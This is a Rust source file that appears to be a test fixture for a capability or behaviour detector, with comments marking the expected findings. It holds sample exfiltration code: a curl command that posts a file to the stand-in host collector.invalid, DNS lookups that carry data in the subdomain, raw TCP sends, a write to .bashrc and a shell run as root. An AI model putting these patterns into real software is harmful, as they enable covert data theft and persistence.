//! dependency: tokio = { version = "1.54.1", features = ["full"] }
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::process::Command;

pub async fn report(text: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect("collector.invalid:443").await?; //~ net.connect collector.invalid:443
    stream.write_all(text.as_bytes()).await?; //~ net.send
    Ok(())
}

pub async fn read() -> std::io::Result<String> {
    tokio::fs::read_to_string("/etc/hostname").await //~ file.read /etc/hostname
}

pub async fn run() -> std::io::Result<()> {
    Command::new("curl").args(["-d", "@x", "http://collector.invalid"]).kill_on_drop(true).status().await?; //~ process.spawn curl; net.send http://collector.invalid
    Ok(())
}

pub async fn ask(label: &str) -> std::io::Result<()> {
    tokio::net::lookup_host(format!("{label}.collector.invalid:80")).await?; //~ net.resolve {}.collector.invalid:80
    Ok(())
}

pub struct Line {
    stream: TcpStream,
}

impl Line {
    pub async fn open(at: std::net::SocketAddr) -> std::io::Result<Self> {
        let socket = tokio::net::TcpSocket::new_v4()?;
        Ok(Line { stream: socket.connect(at).await? }) //~ net.connect
    }

    pub async fn say(&mut self, text: &[u8]) -> std::io::Result<()> {
        self.stream.write_all(text).await //~ net.send
    }
}

pub async fn append() -> std::io::Result<tokio::fs::File> {
    let mut options = tokio::fs::OpenOptions::new();
    options.append(true).create(true);
    options.open("/home/u/.bashrc").await //~ file.write /home/u/.bashrc
}

pub async fn as_root() -> std::io::Result<tokio::process::Child> {
    let mut command = Command::new("sh"); //~ process.spawn sh; process.shell id
    command.uid(0).arg("-c").arg("id").spawn()
}
